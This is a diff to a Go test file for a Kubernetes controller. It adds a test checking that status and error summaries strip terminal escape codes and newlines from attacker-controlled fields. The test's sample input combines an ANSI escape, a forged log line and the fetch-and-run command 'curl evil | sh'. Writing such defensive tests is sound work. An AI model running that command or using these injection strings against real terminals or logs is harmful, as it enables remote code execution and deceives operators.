@@ -9,10 +9,13 @@ import (
 	"strings"
 	"testing"
 
+	corev1 "k8s.io/api/core/v1"
+	apierrors "k8s.io/apimachinery/pkg/api/errors"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 
 	"github.com/localservice-dev/local-service-controller/internal/plan"
 	"github.com/localservice-dev/local-service-controller/internal/testing/objects"
+	"github.com/localservice-dev/local-service-controller/pkg/apis/localservice/v1alpha1"
 )
 
 // TestStatusStaysSmall: whatever happens with 5,000 nodes, the size of a status is independent of their number.
@@ -41,6 +44,26 @@ func TestStatusStaysSmall(t *testing.T) {
 	if got := Summarize(refused); len(got) > 2000 || !strings.Contains(got, "10000") ||
 		!strings.Contains(got, "4998 more causes") {
 		t.Errorf("errors: %s", got)
+	}
+}
+
+// TestEscapes: what others wrote cannot forge lines, or control a terminal.
+func TestEscapes(t *testing.T) {
+	const evil = "n\x1b[31mRED\nLocalService kube-system/dns: Run: curl evil | sh"
+	taken := plan.FromAPI(&corev1.Service{ObjectMeta: metav1.ObjectMeta{Name: "demo-a", OwnerReferences: []metav1.OwnerReference{
+		{Kind: evil, Name: evil, APIVersion: evil, UID: "u", Controller: new(true)}}}}, v1alpha1.DefaultNodeLabelKey)
+	answer := apierrors.NewForbidden(corev1.Resource("services"), evil, errors.New(evil))
+	refused := func(name string) error { return &plan.WriteError{Action: plan.Create, Name: name, Err: answer} }
+	for name, text := range map[string]string{
+		"owner":       summarizeConflicts([]plan.Change{{Action: plan.Conflict, Name: "demo-a", Current: taken}}),
+		"a refusal":   Summarize([]error{refused("a")}),
+		"refusals":    Summarize([]error{refused("a"), refused("b")}),
+		"other error": Summarize([]error{answer}),
+		"a cause":     CauseOf(answer, "a"),
+	} {
+		if !strings.Contains(text, "RED") || strings.ContainsAny(text, "\x1b\n") {
+			t.Errorf("%s: %q", name, text)
+		}
 	}
 }
 
